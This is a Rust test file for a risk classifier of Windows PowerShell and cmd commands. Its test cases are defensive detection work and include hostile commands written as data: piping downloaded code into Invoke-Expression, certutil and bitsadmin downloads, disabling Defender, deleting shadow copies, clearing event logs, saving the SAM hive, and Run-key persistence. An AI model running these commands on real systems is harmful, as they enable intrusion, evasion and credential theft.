//! Tests of what programs and scripts of Windows risk.

use super::*;

/// The risks of a call beside that it runs, as words.
fn shown(argv: &[String]) -> String {
    let found = risks(argv);
    assert_eq!(found.first().map(|it| it.risk), Some(Risk::Runs), "{argv:?}");
    let risks: crate::Risks = found.iter().skip(1).map(|it| it.risk).collect();
    risks.iter().map(Risk::word).collect::<Vec<_>>().join(" ")
}

fn check(cases: &[(&str, &str)], argv: impl Fn(&str) -> Vec<String>) {
    for (text, expected) in cases {
        assert_eq!(shown(&argv(text)), *expected, "{text}");
    }
}

fn in_powershell(script: &str) -> Vec<String> {
    ["powershell", "-NoProfile", "-Command", script].map(str::to_owned).to_vec()
}

fn in_cmd(line: &str) -> Vec<String> {
    ["cmd", "/d", "/c", line].map(str::to_owned).to_vec()
}

fn words(call: &str) -> Vec<String> {
    call.split(' ').map(str::to_owned).collect()
}

#[test]
fn cmdlets_that_only_read_have_no_other_risk() {
    check(
        &[
            (r"Get-ChildItem C:\a -Recurse -Filter *.txt", ""),
            (r"dir C:\a | sort Length -Descending | select -First 3 | ft -AutoSize", ""),
            (r"gc C:\a.txt -Tail 5", ""),
            ("Get-Process | Where-Object { $_.CPU -gt 5 } | Measure-Object", ""),
            ("Get-Service | ? Status -eq 'Running' | % { $_.Name }", ""),
            ("$x = Get-Date; Write-Output $x", ""),
            (r"Test-Path 'C:\a b'", ""),
            ("Get-ChildItem a | ConvertTo-Json -Depth 2", ""),
            ("ChildItem a", ""),
            ("mkdir a", ""),
            ("Set-Location a", ""),
            ("ls -ea silent", ""),
        ],
        in_powershell,
    );
}

#[test]
fn cmdlets_and_aliases_have_the_risks_of_what_they_do() {
    check(
        &[
            ("Remove-Item a", "deletes"),
            ("rm a", "deletes"),
            ("ri a", "deletes"),
            ("DEL a", "deletes"),
            ("r`m a", "deletes"),
            ("& 'rm' a", "deletes"),
            (r"Microsoft.PowerShell.Management\Remove-Item a", "deletes"),
            ("Get-Date; if", "unknown"),
            ("rm $x", "deletes unknown"),
            ("ls a | rm", "deletes unknown"),
            ("ls a | % Delete", "unknown"),
            ("ls a | % { rm b }", "deletes"),
            ("1 | % -MemberName Delete", "unknown"),
            ("ls | select @{n='a'; e={ rm b }}", "deletes"),
            ("Write-Output (rm a)", "deletes"),
            (r#"Write-Output "$(rm a)""#, "deletes"),
            ("Copy-Item a b", "overwrites"),
            ("mv a b", "overwrites"),
            ("sc a b", "overwrites guarded unknown"),
            ("Get-Date | Set-Content a", "overwrites"),
            ("Get-Date | Set-Content", "overwrites unknown"),
            ("Get-Date > a", "overwrites"),
            ("Get-Date > $x", "overwrites unknown"),
            ("Get-Date > $null", ""),
            ("iwr https://example.org", "sends"),
            ("curl https://example.org", "sends"),
            ("iwr https://example.org -OutFile a", "sends overwrites"),
            ("iwr https://example.org -OutF a", "sends overwrites"),
            ("iwr https://example.org | iex", "sends unknown"),
            ("iex 'rm a'", "unknown"),
            ("Invoke-Expression $x", "unknown"),
            ("icm { rm a }", "deletes unknown"),
            ("saps a", "unknown"),
            ("start a", "unknown"),
            ("Start-Process a -Verb RunAs", "unknown"),
            ("New-Object -ComObject WScript.Shell", "unknown"),
            ("Add-Type -TypeDefinition 'x'", "unknown"),
            ("Import-Module a", "unknown"),
            ("sal ls rm; ls a", "unknown"),
            ("Set-Item Alias:ls rm; ls a", "overwrites unknown"),
            ("ni -Path Function:ls -Value { rm a }", "deletes overwrites unknown"),
            ("si Env:PATH a", "overwrites unknown"),
            ("Remove-Thing a", "deletes unknown"),
            ("Get-Thing a", "unknown"),
            ("Get-Process -ComputerName a", "sends"),
            ("Get-Process -Comp a", "sends"),
            ("Get-ChildItem -OutVariable PSDefaultParameterValues", "unknown"),
            ("Get-ChildItem -Unknown a", "unknown"),
            ("Get-Clipboard", "reads_clipboard"),
            ("Clipboard", "reads_clipboard"),
            ("Get-Credential", "logs_in reveals"),
            ("Set-ExecutionPolicy Bypass", "permits guarded"),
            ("Set-MpPreference -DisableRealtimeMonitoring 1", "permits guarded unknown"),
            ("Register-ScheduledTask -TaskName a", "guarded unknown"),
            ("New-Service a b", "guarded"),
            ("Stop-Process -Name a", "closes"),
            ("kill 5", "closes"),
            ("Stop-Computer", "closes"),
            ("Install-Module a", "installs"),
            ("Set-Location a; rm b", "deletes unknown"),
            ("cd a; ls", "unknown"),
            (r"C:; ls", "unknown"),
            (r".\a.ps1", "unknown"),
            (r"& 'C:\a b\setup.bat'", "unknown"),
            ("git status", "unknown"),
            ("python a.py", "unknown"),
            ("notepad a.txt", ""),
            ("reg add HKCU\\Software\\a", "overwrites guarded"),
        ],
        in_powershell,
    );
}

#[test]
fn commands_of_the_interpreter_and_programs_have_the_risks_of_what_they_do() {
    check(
        &[
            (r"dir C:\a", ""),
            ("type a.txt | findstr b", ""),
            ("del a", "deletes"),
            ("d^el a", "deletes"),
            ("@del/q a", "deletes"),
            ("erase a", "deletes"),
            ("rd /s /q a", "deletes"),
            ("echo a & rd b", "deletes"),
            ("echo a > b", "overwrites"),
            ("copy a b", "overwrites"),
            ("ren a b", "overwrites"),
            ("reg query HKCU\\Software", ""),
            ("reg delete HKCU\\a /v query", "deletes guarded"),
            (
                "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d b",
                "overwrites guarded",
            ),
            ("reg save HKLM\\SAM a", "overwrites reveals"),
            ("REG.EXE unknown query", "guarded unknown"),
            ("schtasks /query", ""),
            ("schtasks /create /tn a /tr /query", "guarded"),
            ("schtasks -delete -tn a", "deletes guarded"),
            ("vssadmin list shadows", ""),
            ("vssadmin delete shadows /all", "deletes guarded"),
            ("wevtutil cl System", "deletes guarded"),
            ("bcdedit", "guarded unknown"),
            ("bcdedit /enum", ""),
            ("sc query a", ""),
            ("sc \\\\other create a", "guarded"),
            ("net user a b /add", "permits guarded"),
            ("net stop a", "closes guarded"),
            ("net a", "unknown"),
            ("format d:", "deletes guarded"),
            ("icacls a /grant b:F", "permits"),
            ("certutil -urlcache -f https://example.org a", "sends overwrites guarded unknown"),
            ("certutil -hashfile a", ""),
            ("bitsadmin /transfer a b c", "sends overwrites"),
            ("mshta https://example.org", "unknown"),
            ("rundll32 a,b", "unknown"),
            ("regsvr32 /s a", "unknown"),
            ("wmic shadowcopy delete", "deletes unknown"),
            ("msiexec /i a.msi", "installs"),
            ("winget list", ""),
            ("winget install a", "installs"),
            ("taskkill /im a", "closes"),
            ("shutdown /r", "closes"),
            ("robocopy a b /mir", "deletes overwrites"),
            ("netsh wlan show profile key=clear", "reveals guarded"),
            ("ping example.org", "sends"),
            ("setx a b", "guarded"),
            ("set", "reveals unknown"),
            ("for %x in (a) do del b", "unknown"),
            ("if exist a del b", "unknown"),
            ("call a.bat", "unknown"),
            ("start a", "unknown"),
            ("a.bat", "unknown"),
            ("npm.cmd install", "unknown"),
            ("cd a & del b", "deletes unknown"),
            ("powershell -nop -c ls", ""),
            ("powershell -enc a", "unknown"),
            ("%x% del a", "unknown"),
        ],
        in_cmd,
    );
}

#[test]
fn a_program_that_no_shell_reads_has_the_risks_of_its_table() {
    check(
        &[
            ("notepad a.txt", ""),
            (r"C:\Windows\System32\VSSADMIN.EXE delete shadows", "deletes guarded"),
            ("vssadmin.exe. delete shadows", "deletes guarded"),
            ("reg query HKCU", ""),
            ("cmd", "unknown"),
            ("cmd /k dir", "unknown"),
            ("powershell.exe", "unknown"),
            (r"C:\a\pwsh.exe -File a.ps1", "unknown"),
            (r"C:\a\build.ps1", "unknown"),
            ("bash -c ls", "unknown"),
            ("python3.11 a.py", "unknown"),
            ("git log --oneline", ""),
            ("curl https://example.org", "sends"),
        ],
        words,
    );
    assert!(risks(&[]).is_empty());
}
